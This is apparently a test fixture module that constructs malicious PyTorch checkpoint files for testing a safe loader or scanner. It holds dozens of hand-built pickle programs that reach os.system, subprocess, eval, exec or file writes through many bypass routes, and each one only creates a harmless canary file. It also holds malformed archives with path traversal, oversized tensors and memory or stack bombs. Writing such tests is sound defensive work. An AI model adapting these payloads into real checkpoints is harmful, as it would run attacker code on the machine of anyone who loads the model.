"""Checkpoints that somebody has made to harm: kind -> bytes.

Those of :func:`exploits` would make the file ``canary`` if what they ask for were run.
"""

import io
import os
import pickle
import struct
import zipfile

import torch

WEIGHTS = {'conv.weight': torch.arange(12.0).reshape(3, 4), 'bn.running_var': torch.ones(3)}


def text(value: str) -> bytes:
    """A string, of whatever characters."""
    raw = value.encode('utf-8', 'surrogatepass')
    return pickle.BINUNICODE + struct.pack('<I', len(raw)) + raw


def named(module: str, name: str) -> bytes:
    return pickle.GLOBAL + f'{module}\n{name}\n'.encode()


def called(function: bytes, *args: bytes) -> bytes:
    return function + pickle.MARK + b''.join(args) + pickle.TUPLE + pickle.REDUCE


def entry(value: bytes, key: bytes | None = None) -> bytes:
    """A checkpoint with a value beside its (no) weights."""
    key = text('x') if key is None else key
    items = text('state_dict') + pickle.EMPTY_DICT + key + value
    return pickle.EMPTY_DICT + pickle.MARK + items + pickle.SETITEMS


def archive(program: bytes, parts: dict[str, bytes] | None = None, **options) -> bytes:
    """What torch.save writes, of any pickle, with other parts beside it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, 'w', **options) as file:
        file.writestr('model/data.pkl', pickle.PROTO + b'\x02' + program + pickle.STOP)
        file.writestr('model/version', '3\n')
        for name, content in (parts or {}).items():
            part = zipfile.ZipInfo(name) if isinstance(name, str) else name
            file.writestr(part, content, options.get('compression'))
    return buffer.getvalue()


def legacy(program: bytes, keys: list[str] | None = None, rest: bytes = b'') -> bytes:
    """What torch before 1.6 wrote."""
    head = [0x1950A86A20F9469CFC6C, 1001, dict(protocol_version=1001, little_endian=True)]
    tail = pickle.dumps(keys or [], 2) + rest
    program = pickle.PROTO + b'\x02' + program + pickle.STOP
    return b''.join(pickle.dumps(each, 2) for each in head) + program + tail


def saved(value: object, **options) -> bytes:
    buffer = io.BytesIO()
    torch.save(value, buffer, **options)
    return buffer.getvalue()


def storage(count: int, key: str = '0', kind: str = 'FloatStorage') -> bytes:
    pid = [text('storage'), named('torch', kind), text(key), text('cpu'), number(count)]
    return pickle.MARK + b''.join(pid) + pickle.TUPLE + pickle.BINPERSID


def number(value: int) -> bytes:
    return pickle.dumps(value, 2)[2:-1]


def shape(*sizes: int) -> bytes:
    return pickle.MARK + b''.join(map(number, sizes)) + pickle.TUPLE


def tensor(source: bytes, size: bytes, stride: bytes, offset: int = 0) -> bytes:
    hooks = called(named('collections', 'OrderedDict'))
    parts = source, number(offset), size, stride, pickle.NEWFALSE, hooks
    return called(named('torch._utils', '_rebuild_tensor_v2'), *parts)


class Asks:
    """Its pickle asks for a call."""

    def __init__(self, function, *args):
        self.reduced = function, args

    def __reduce__(self):
        return self.reduced


def exploits(canary: str) -> dict[str, bytes]:
    """Programs for the unpickler that make the canary, by their shape."""
    touch = f'open({canary!r}, "w").close()'
    command = f'touch {canary}'
    system, evaluate = named('os', 'system'), named('builtins', 'eval')
    attribute, load = named('builtins', 'getattr'), named('builtins', '__import__')
    inner = pickle.dumps(Asks(os.system, command), 2)
    nested = saved({'state_dict': {}, 'x': Asks(os.system, command)})
    path = canary.encode()
    return {
        'os.system': called(system, text(command)),
        'posix.system': called(named('posix', 'system'), text(command)),
        'os.mkdir': called(named('os', 'mkdir'), text(canary)),
        'open': called(named('builtins', 'open'), text(canary), text('w')),
        'io.open': called(named('io', 'open'), text(canary), text('w')),
        'py2 open': called(named('__builtin__', 'open'), text(canary), text('w')),
        'eval': called(evaluate, text(touch)),
        'exec': called(named('builtins', 'exec'), text(touch)),
        'py2 eval': called(named('__builtin__', 'eval'), text(touch)),
        'subprocess.run': called(
            named('subprocess', 'getoutput'),
            text(command),
        ),
        'subprocess.Popen': called(
            named('subprocess', 'Popen'),
            pickle.EMPTY_LIST + pickle.MARK + text('touch') + text(canary) + pickle.APPENDS,
        ),
        'import, getattr': called(
            called(attribute, called(load, text('os')), text('system')), text(command)
        ),
        'importlib': called(
            called(
                attribute,
                called(named('importlib', 'import_module'), text('os')),
                text('system'),
            ),
            text(command),
        ),
        'getattr of a class that is known': called(
            attribute, named('mmengine.logging.history_buffer', 'HistoryBuffer'), text('__init__')
        ),
        'operator.attrgetter': called(
            called(
                called(named('operator', 'attrgetter'), text('system')),
                called(load, text('os')),
            ),
            text(command),
        ),
        'functools.partial': called(
            called(named('functools', 'partial'), system, text(command)),
        ),
        'map, list': called(
            named('builtins', 'list'),
            called(
                named('builtins', 'map'),
                system,
                pickle.EMPTY_LIST + pickle.MARK + text(command) + pickle.APPENDS,
            ),
        ),
        'INST': pickle.MARK + text(command) + b'ios\nsystem\n',
        'OBJ': pickle.MARK + system + text(command) + pickle.OBJ,
        'NEWOBJ': system + pickle.MARK + text(command) + pickle.TUPLE + pickle.NEWOBJ,
        'NEWOBJ_EX': system
        + pickle.MARK
        + text(command)
        + pickle.TUPLE
        + pickle.EMPTY_DICT
        + pickle.NEWOBJ_EX,
        'STACK_GLOBAL': called(text('os') + text('system') + pickle.STACK_GLOBAL, text(command)),
        'a dotted name': called(
            text('os') + text('path.os.system') + pickle.STACK_GLOBAL, text(command)
        ),
        'EXT1': pickle.EXT1 + b'\x01',
        'copyreg._reconstructor': called(
            named('copyreg', '_reconstructor'),
            named('subprocess', 'Popen'),
            named('builtins', 'object'),
            text(command),
        ),
        'copyreg.__newobj__': called(
            named('copyreg', '__newobj__'), named('subprocess', 'Popen'), text(command)
        ),
        'copyreg.add_extension': called(
            named('copyreg', 'add_extension'), text('os'), text('system'), number(1)
        ),
        'pickle.loads': called(
            named('_pickle', 'loads'),
            pickle.BINBYTES + struct.pack('<I', len(inner)) + inner,
        ),
        'torch.load, nested': called(
            named('torch.serialization', 'load'),
            called(
                named('_io', 'BytesIO'),
                pickle.BINBYTES + struct.pack('<I', len(nested)) + nested,
            ),
        ),
        'numpy.loads': called(named('numpy', 'load'), text(canary), pickle.NONE, pickle.NEWTRUE),
        'numpy.f2py': called(named('numpy.f2py.crackfortran', 'myeval'), text(touch)),
        'dtype of objects': called(
            named('numpy.core.multiarray', 'scalar'),
            called(named('numpy', 'dtype'), text('O8'), pickle.NEWFALSE, pickle.NEWTRUE),
            pickle.SHORT_BINBYTES + b'\x08' + struct.pack('<Q', id(os.system)),
        ),
        'array of objects': called(
            named('numpy.core.multiarray', '_reconstruct'),
            named('numpy', 'ndarray'),
            shape(0),
            pickle.SHORT_BINBYTES + b'\x01b',
        )
        + pickle.MARK
        + number(1)
        + shape(1)
        + called(named('numpy', 'dtype'), text('O8'), pickle.NEWFALSE, pickle.NEWTRUE)
        + pickle.NEWFALSE
        + pickle.SHORT_BINBYTES
        + b'\x08'
        + struct.pack('<Q', id(os.system))
        + pickle.TUPLE
        + pickle.BUILD,
        'a dict of functions to a function': named('torch._utils', '_rebuild_tensor_v2')
        + pickle.NONE
        + pickle.EMPTY_DICT
        + text('__defaults__')
        + pickle.EMPTY_TUPLE
        + pickle.SETITEM
        + pickle.TUPLE2
        + pickle.BUILD,
        'a method for a class': named('torch.storage', 'UntypedStorage')
        + pickle.NONE
        + pickle.EMPTY_DICT
        + text('nbytes')
        + system
        + pickle.SETITEM
        + pickle.TUPLE2
        + pickle.BUILD,
        'attributes of a state_dict': called(named('collections', 'OrderedDict'))
        + pickle.EMPTY_DICT
        + text('copy')
        + text('x')
        + pickle.SETITEM
        + pickle.BUILD,
        'a default factory': called(named('collections', 'defaultdict'), system),
        'encoding with another codec': called(named('_codecs', 'encode'), text('a'), text('hex')),
        'a persistent id that is a call': called(system, text(command)) + pickle.BINPERSID,
        'a persistent id in words': pickle.PERSID + path + b'\n',
        'a persistent id of a class': pickle.MARK
        + text('storage')
        + system
        + text('0')
        + text('cpu')
        + number(1)
        + pickle.TUPLE
        + pickle.BINPERSID,
        'a module with its source': pickle.MARK
        + text('module')
        + system
        + text(canary)
        + text(touch)
        + pickle.TUPLE
        + pickle.BINPERSID,
    }


def lies() -> dict[str, bytes]:
    """Data that is not what it says, or that would fill the memory or the stack."""
    four = {'model/data/0': bytes(16)}
    deep = pickle.EMPTY_LIST * 30_000 + pickle.APPEND * 29_999
    tuples = pickle.EMPTY_TUPLE + pickle.TUPLE1 * 200_000
    laughs = pickle.EMPTY_LIST
    for _ in range(60):
        laughs = laughs + pickle.DUP + pickle.TUPLE2
    cyclic = pickle.EMPTY_LIST + pickle.BINPUT + b'\x07' + pickle.BINGET + b'\x07' + pickle.APPEND
    copies = text('x' * 100_000) + pickle.BINPUT + b'\x01' + pickle.POP + pickle.EMPTY_LIST
    copies += pickle.MARK
    copies += 5000 * called(named('_codecs', 'encode'), pickle.BINGET + b'\x01', text('latin1'))
    copies += pickle.APPENDS
    return {
        'a storage larger than its part': archive(
            entry(tensor(storage(1000), shape(1000), shape(1))), four
        ),
        'a storage that is not there': archive(
            entry(tensor(storage(4, 'another'), shape(4), shape(1))), four
        ),
        'a storage with a path for a name': archive(
            entry(tensor(storage(4, '../../../etc/hostname'), shape(4), shape(1))), four
        ),
        'a tensor larger than its storage': archive(
            entry(tensor(storage(4), shape(100, 100), shape(100, 1))), four
        ),
        'a huge tensor': archive(entry(tensor(storage(4), shape(2**40), shape(1))), four),
        'a huge expanded tensor': archive(
            entry(tensor(storage(4), shape(2**20, 2**20), shape(0, 0))), four
        ),
        'an offset behind the end': archive(
            entry(tensor(storage(4), shape(1), shape(1), 2**62)), four
        ),
        'a negative stride': archive(entry(tensor(storage(4), shape(2), shape(-1), 3)), four),
        'a negative size': archive(entry(tensor(storage(4), shape(-2), shape(1))), four),
        'a huge legacy storage': legacy(
            entry(tensor(storage_legacy(2**40), shape(2**40), shape(1))), ['0']
        ),
        'a legacy storage of two sizes': legacy(
            entry(tensor(storage_legacy(4), shape(4), shape(1))),
            ['0'],
            struct.pack('<q', 2**40) + bytes(16),
        ),
        'a legacy storage without bytes': legacy(
            entry(tensor(storage_legacy(4), shape(4), shape(1))), []
        ),
        'nested lists': archive(entry(deep)),
        'nested tuples': archive(entry(tuples)),
        'nested tuples for a key': archive(entry(pickle.NONE, tuples)),
        'a billion laughs': archive(entry(laughs)),
        'copies of copies': archive(entry(copies)),
        'a list in itself': archive(entry(cyclic)),
        'half a character in a value': archive(entry(text('\ud800'))),
        'half a character in a key': archive(entry(pickle.NONE, text('\udfff'))),
        'a dict for a key': archive(entry(pickle.NONE, pickle.EMPTY_DICT)),
        'a huge number of bytes': archive(
            entry(pickle.BINBYTES8 + struct.pack('<Q', 2**50) + b'x')
        ),
        'a huge bytearray': archive(entry(pickle.BYTEARRAY8 + struct.pack('<Q', 2**50) + b'x')),
        'a huge place in the memo': archive(
            entry(pickle.NONE) + pickle.LONG_BINPUT + b'\xff\xff\xff\x7f' + pickle.POP
        ),
        'a number of a million digits': archive(entry(pickle.LONG + b'9' * 10**6 + b'L\n')),
        'an empty program': archive(b''),
        'a program without its end': archive(entry(pickle.NONE))[:-5],
    }


def storage_legacy(count: int) -> bytes:
    return storage(count)[: -len(pickle.TUPLE + pickle.BINPERSID)] + (
        pickle.NONE + pickle.TUPLE + pickle.BINPERSID
    )
